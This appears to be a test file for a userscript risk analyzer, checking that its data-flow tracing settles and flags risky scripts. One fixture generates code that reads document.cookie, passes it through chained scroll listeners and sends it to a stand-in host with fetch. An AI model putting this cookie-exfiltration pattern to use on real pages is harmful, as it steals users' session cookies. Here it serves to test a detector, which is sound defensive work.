import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { traceOf } from "../testing/trace-of.ts";

/** Listeners that hand a value on, the last one first: each round brings it one step further. */
function chain(length: number): string {
	const steps = Array.from({ length }, (_, index) => length - index);
	return [
		"const held = {}; held.v0 = document.cookie;",
		...steps.map((step) => `addEventListener("scroll", () => { held.v${step} = held.v${step - 1}; });`),
		`addEventListener("resize", () => { fetch("https://c.test/?" + held.v${length}); });`,
	].join("\n");
}

describe("rounds", () => {
	test("a value that travels far arrives", () => {
		const code = chain(12);
		expect(traceOf(code).status).toBe("complete");
		expect(analyzeScript({ code })).toMatchObject({ risk_level: "red" });
	});

	test("a program that does not settle is not called complete", () => {
		const code = chain(60);
		expect(traceOf(code).status).toBe("exhausted");
		expect(analyzeScript({ code })).toMatchObject({ risk_level: "amber" });
	});

	test.each([
		[
			"a promise that is waited for in a loop",
			"const wait = (ms) => new Promise((done) => setTimeout(done, ms)); (async () => { for (let at = 0; at < 9; at++) { document.title; await wait(9) } })();",
		],
		[
			"a promise that nobody keeps",
			"const never = new Promise(() => 0); addEventListener('scroll', () => never.then((a) => a.b).then((c) => c.d).catch(String));",
		],
		[
			"withResolvers in a timer",
			"setInterval(() => { const { promise, resolve } = Promise.withResolvers(); promise.then(resolve); setTimeout(resolve, 3, 1); }, 9);",
		],
		[
			"a promise around a callback",
			"const get = (u) => new Promise((yes, no) => GM_xmlhttpRequest({ url: u, onload: (r) => yes(r), onerror: no })); async function go() { for (const one of await get('/a')) await get('/b/' + one) } go(); addEventListener('scroll', go);",
		],
	])("%s settles", (_title, code) => {
		expect(traceOf(code).status).toBe("complete");
	});
});
